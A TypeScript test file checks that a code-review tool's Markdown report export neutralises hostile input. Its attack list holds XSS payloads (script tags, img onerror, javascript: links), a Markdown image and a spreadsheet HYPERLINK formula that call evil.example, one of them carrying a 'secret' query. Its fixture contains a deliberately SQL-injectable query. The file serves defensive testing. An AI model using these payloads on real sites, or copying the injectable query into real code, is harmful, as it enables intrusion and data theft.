import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import { afterAll, beforeAll, expect, test } from "vitest";
import { createEngine } from "../create-engine.ts";
import { reviewed, withFinding } from "../testing/report-subject.ts";
import { exportMarkdown, type ReportSubject } from "./index.ts";

interface Node {
  readonly type: string;
  readonly url?: string;
  readonly value?: string;
  readonly children?: readonly Node[];
}

/** Every node of the document as a reader of GitHub's dialect sees it. */
function nodesOf(of: ReportSubject): Node[] {
  const markdown = exportMarkdown(of, { origin: "https://example.com" });
  const tree: Node = fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
  const walk = (node: Node): Node[] => [node, ...(node.children ?? []).flatMap(walk)];
  return walk(tree);
}

const engine = createEngine();
afterAll(() => engine.close());
let subject: ReportSubject;
beforeAll(async () => {
  const text = `app.get("/", (req, res) => {\n  pool.query("SELECT 1 WHERE a = '" + req.query.a + "'");\n});\nif (a.x == b.x) go();\n`;
  subject = await reviewed(engine, [{ path: "src/a.js", language: "javascript", text }]);
});

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![x](https://evil.example/?q=secret)",
  "[click](javascript:alert(1))",
  "[click]: https://evil.example\n[click]",
  "https://evil.example/?q=1 and http://evil.example and www.evil.example",
  "me@evil.example, mailto:me@evil.example, @maintainer",
  "<https://evil.example>",
  "# heading\n\n## another",
  "- item\n- item\n\n1. one",
  "`code` ``code`` ```\n```\n# out\n```",
  "~~~\n~~~\n# out",
  "| a | b |\n|---|---|\n| c | d |",
  "> quote\n\n---\n\n***\n\n===",
  "*a* _b_ **c** ~~d~~ $x$ [^1]: note",
  "\\`\\*\\_ \\",
  "&lt;script&gt; &#60;b&#62; &amp;",
  "<!-- comment --> <?php ?> <![CDATA[x]]>",
  '=HYPERLINK("https://evil.example") +1 -1 @SUM(1)',
  "``````````",
  "`",
  "",
  " ",
];

test.each(ATTACKS)("%j stays text wherever it comes from", (attack) => {
  const calm = nodesOf(subject);
  const anchor = { ...subject.findings[0]?.anchor, path: attack || "a" } as ReportSubject["findings"][0]["anchor"];
  const trace = [{ role: "source" as const, line: 1, column: 1, excerpt: attack, label: attack }];
  const hostile = withFinding(subject, { title: attack, why: attack, remedy: attack, excerpt: attack, trace, anchor });
  const files = subject.files.map((file) => ({ ...file, path: attack, status: "partial" as const }));
  const reasons = [{ code: "analyzer-failed" as const, line: 1, detail: attack }];
  const nodes = nodesOf({
    summary: { ...hostile.summary, title: attack, project: attack, revision: attack },
    files: files.map((file) => ({ ...file, reasons })),
    findings: hostile.findings.map((finding) => ({
      ...finding,
      fix: finding.fix && { ...finding.fix, title: attack, patch: `${finding.fix.patch}+${attack}\n` },
    })),
  });
  const count = (of: readonly Node[], type: string) => of.filter((node) => node.type === type).length;
  for (const type of ["html", "image", "table", "blockquote", "thematicBreak", "definition", "footnoteDefinition"]) {
    expect([type, count(nodes, type)]).toEqual([type, 0]);
  }
  for (const type of ["heading", "code"]) expect([type, count(nodes, type)]).toEqual([type, count(calm, type)]);
  const links = nodes.filter(({ type }) => type === "link" || type === "linkReference").map(({ url }) => url);
  expect(links.every((url) => url?.startsWith("https://example.com/rules/"))).toBe(true);
  expect(nodes.filter(({ type }) => type === "text").every(({ value }) => !/@\w/.test(value ?? ""))).toBe(true);
});

test("code reads as code: the excerpt, the patch and the trace are there as they are", () => {
  const values = nodesOf(subject).flatMap(({ value }) => value ?? []);
  expect(values.some((value) => value.includes("req.query.a"))).toBe(true);
  expect(values.some((value) => value.includes("+if (a.x === b.x) go();"))).toBe(true);
});

test("every file that was not read as a whole is listed with its reason, and no rounding makes it all", () => {
  const file = subject.files[0] as ReportSubject["files"][0];
  const files = [
    {
      ...file,
      path: "vendor/x.js",
      status: "excluded" as const,
      reasons: [{ code: "vendored" as const, line: null, detail: null }],
    },
    {
      ...file,
      path: "b.js",
      status: "partial" as const,
      reasons: [{ code: "syntax-error" as const, line: 7, detail: null }],
    },
  ];
  const summary = { ...subject.summary, verdict: "partial" as const, sizeBytes: 100_000, reviewedBytes: 99_999 };
  const text = exportMarkdown({ ...subject, summary, files }, { origin: "https://example.com" });
  expect(text).toContain("- `vendor/x.js`: left out. A copy of somebody else's package.");
  expect(text).toMatch(/- `b\.js`: read in part, .* From line 7\./);
  expect(text).toContain("(99.9 %)");
  expect(text).toContain("**Partial:");
});

test("a cut patch says that it is cut", () => {
  const [first] = subject.findings.filter(({ fix }) => fix !== null);
  const patch = `--- a/src/a.js\n+++ b/src/a.js\n@@ -1,1 +1,400 @@\n a\n${"+b\n".repeat(399)}`;
  const fix = first?.fix && { ...first.fix, patch };
  const text = exportMarkdown({ ...subject, findings: [{ ...first, fix } as never] }, { origin: "" });
  expect(text).toContain("more lines");
});
